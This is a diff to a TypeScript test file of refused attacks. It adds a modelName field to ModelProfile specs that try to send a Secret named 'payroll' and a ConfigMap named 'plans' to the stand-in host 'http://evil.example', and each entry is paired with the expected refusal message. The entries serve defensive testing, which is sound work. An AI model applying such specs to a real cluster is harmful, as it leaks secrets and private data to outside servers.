@@ -225,13 +225,13 @@ export const refusedToAuthors: readonly RefusedAttack[] = [
   {
     name: 'to have a Secret sent to a server of their own',
     kind: 'ModelProfile',
-    spec: { target: { url: 'http://evil.example', tokenSecretRef: { name: 'payroll', key: 'x' } } },
+    spec: { target: { url: 'http://evil.example', modelName: 'x', tokenSecretRef: { name: 'payroll', key: 'x' } } },
     words: /neither read the Secret "payroll"/,
   },
   {
     name: 'to have a ConfigMap sent to a server of their own',
     kind: 'ModelProfile',
-    spec: { target: { url: 'http://evil.example' }, payload: { configMapKeyRef: { name: 'plans', key: 'x' } } },
+    spec: { target: { url: 'http://evil.example', modelName: 'x' }, payload: { configMapKeyRef: { name: 'plans', key: 'x' } } },
     words: /neither read the ConfigMap "plans"/,
   },
   { name: 'a container of their own', spec: transformer(), words: /may not bring a container of your own/ },
